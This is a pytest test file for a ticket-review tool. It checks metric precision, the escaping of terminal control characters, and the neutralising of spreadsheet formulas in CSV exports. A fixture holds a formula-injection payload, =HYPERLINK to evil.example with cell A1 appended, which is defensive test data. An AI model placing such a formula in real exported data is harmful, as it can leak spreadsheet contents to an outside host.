"""Machine formats keep full precision; ticket text is shown as text on every path."""

import csv
import io
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest

from review.cli import main
from review.snapshot import read_jsonl
from review.text import spreadsheet_safe, visible, visible_frame

EXAMPLE = Path(__file__).parent / "fixtures" / "rt-example"
HOSTILE = "\x1b[37;47mhidden\x1b[0m bell\x07 nul\x00 back\x08 rlo\u202e end"
SHOWN = "\\x1b[37;47mhidden\\x1b[0m bell\\x07 nul\\x00 back\\x08 rlo\\u202e end"


def test_metrics_files_carry_full_precision_and_only_the_table_rounds(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # sample ticket 2: opened 13:05, handed off at 13:20, resolved 19:10 (UTC, same day)
    main(["metrics", "--format", "json"])
    row = next(r for r in json.loads(capsys.readouterr().out) if r["ticket_id"] == 2)
    assert row["time_to_resolve_h"] == 365 / 60  # 6 h 05 min, not 6.08
    assert row["time_in_handoff_h"] == 310 / 60
    main(["metrics", "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert float(next(r for r in rows if r["ticket_id"] == "2")["time_to_resolve_h"]) == 365 / 60
    monkeypatch.setenv("COLUMNS", "100")  # too narrow for the metrics grid: one record per ticket
    main(["metrics", "--format", "table"])
    records = capsys.readouterr().out.split("\n\n")
    ticket = next(r for r in records if r.lstrip().startswith("ticket_id: 2\n"))
    shown = dict(line.strip().split(": ", 1) for line in ticket.splitlines() if ": " in line)
    assert shown["time_to_resolve_h"] == "6.08"


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """rt-example with ticket 1's subject full of control characters, ticket 2's a formula."""
    target = tmp_path / "snap"
    shutil.copytree(EXAMPLE, target)
    tickets = read_jsonl(target / "tickets.jsonl")
    tickets[0]["Subject"] = HOSTILE
    tickets[1]["Subject"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    (target / "tickets.jsonl").write_text("".join(json.dumps(t) + "\n" for t in tickets))
    manifest = json.loads((target / "manifest.json").read_text())
    manifest["sha256"].pop("tickets.jsonl")
    (target / "manifest.json").write_text(json.dumps(manifest))
    return target


def test_control_characters_are_escaped_in_table_and_csv_and_exact_in_json(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    main(["metrics", "--snapshot", str(hostile), "--format", "table"])
    table = capsys.readouterr().out
    assert SHOWN in table
    assert not any(c in table for c in "\x1b\x07\x00\x08\u202e")
    main(["metrics", "--snapshot", str(hostile), "--format", "csv"])
    text = capsys.readouterr().out
    assert not any(c in text for c in "\x1b\x07\x00\x08\u202e")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["subject"] == SHOWN
    assert rows[1]["subject"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    main(["metrics", "--snapshot", str(hostile), "--format", "json"])
    records = json.loads(capsys.readouterr().out)
    assert records[0]["subject"] == HOSTILE
    assert records[1]["subject"] == '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_visible_escapes_controls_and_keeps_ordinary_text() -> None:
    assert visible(HOSTILE) == SHOWN
    assert visible("Café → 503\tafter\nlogin 😀") == "Café → 503\tafter\nlogin 😀"
    assert visible("\x7f\x85\r\ufeff") == "\\x7f\\x85\\x0d\\ufeff"


@pytest.mark.parametrize(
    ("start", "shown"),
    [("=", "'="), ("+", "'+"), ("-", "'-"), ("@", "'@"), ("\t", "'\t"), ("\r", "\\x0d")],
)
def test_spreadsheet_safe_defuses_every_formula_start(start: str, shown: str) -> None:
    frame = pd.DataFrame({"subject": [f"{start}1+1", "fine"], "hours": [-1.5, 2.0]})
    safe = spreadsheet_safe(frame)
    assert safe.loc[0, "subject"] == shown + "1+1"  # CR is escaped, so no longer a formula
    assert safe.loc[1, "subject"] == "fine"
    assert list(safe["hours"]) == [-1.5, 2.0]  # numbers are not text: left alone


def test_visible_frame_leaves_non_text_cells_alone() -> None:
    frame = pd.DataFrame(
        {"who": [["a\x1b"], None], "n": [1, 2], "s": pd.array(["x\x07", None], dtype="string")}
    )
    shown = visible_frame(frame)
    assert shown.loc[0, "who"] == ["a\x1b"]  # lists are shown by their repr, which escapes
    assert shown.loc[0, "s"] == "x\\x07" and pd.isna(shown.loc[1, "s"])
    assert list(shown["n"]) == [1, 2]
